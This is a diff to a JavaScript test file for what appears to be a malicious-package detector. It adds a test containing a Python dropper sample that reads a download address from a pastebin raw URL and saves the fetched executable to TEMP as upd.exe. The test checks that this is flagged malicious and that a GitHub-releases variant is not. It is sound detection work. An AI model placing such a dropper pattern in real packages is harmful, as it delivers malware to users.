@@ -89,3 +89,25 @@ test('code or a command decrypted at run time with a key the package does not ho
   const crc = "import subprocess, zlib\ndef tag(data):\n    c = 0xFFFFFFFF\n    for b in data:\n        c = (c >> 8) ^ b\n    subprocess.run(['git', 'tag', 'v%08x' % (c ^ 0xFFFFFFFF)])\n";
   assert.match(await verdict({ 'p/tag.py': crc }), /^clean/);
 });
+
+test('a program downloaded from an address read off a paste site is a dropper; from an address the vendor API returns it is not', async () => {
+  const drop = [
+    'import os, urllib.request',
+    "BASE = 'https://pastebin.com/raw/abc123'",
+    'class D:',
+    '    @staticmethod',
+    '    def resolve():',
+    '        return urllib.request.urlopen(BASE).read().decode()',
+    '    @staticmethod',
+    '    def fetch(url):',
+    "        path = os.getenv('TEMP') + '\\\\upd.exe'",
+    "        with open(path, 'wb') as f:",
+    '            f.write(urllib.request.urlopen(url).read())',
+    '        return path',
+    'def init():',
+    '    D.fetch(D.resolve())',
+  ].join('\n');
+  assert.match(await verdict({ 'p/__init__.py': drop }), /^malicious: Reads a download address from pastebin\.com and passes it to D\.fetch\(\)/);
+  const release = drop.replace('https://pastebin.com/raw/abc123', 'https://api.github.com/repos/o/r/releases/latest');
+  assert.doesNotMatch(await verdict({ 'p/__init__.py': release }), /^malicious/);
+});
